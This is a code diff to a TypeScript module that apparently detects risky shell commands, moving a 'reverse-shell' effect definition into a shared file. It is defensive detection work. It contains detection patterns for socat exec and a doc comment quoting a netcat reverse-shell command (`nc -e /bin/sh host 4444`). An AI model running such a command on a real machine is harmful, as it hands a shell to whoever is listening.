@@ -1,6 +1,7 @@
 // Behaviours of programs that open connections: remote consoles, reverse shells, copies to system directories elsewhere.
 import { effect } from '../../base/effect.ts';
 import { normalise } from '../../base/paths.ts';
+import { reverseShell } from '../../base/source-effects.ts';
 import { displayText } from '../../base/words.ts';
 import type { Effect, ShellCommand } from '../../types.ts';
 import type { Behaviour } from '../behaviour.ts';
@@ -43,14 +44,6 @@ const SOCAT_EXEC = new RegExp(
 );
 
 const textOf = ({ words }: ShellCommand) => words.map((w) => w.text.replaceAll('\\', '')).join(' ');
-
-export const reverseShell = (command: ShellCommand): Effect =>
-  effect(command, {
-    kind: 'fetch-and-run',
-    weight: 'irreversible',
-    code: 'reverse-shell',
-    reason: 'Gives a shell on this machine to whoever is on the other end.',
-  });
 
 /** `nc -e /bin/sh host 4444` */
 export const netcatShell: Behaviour = {
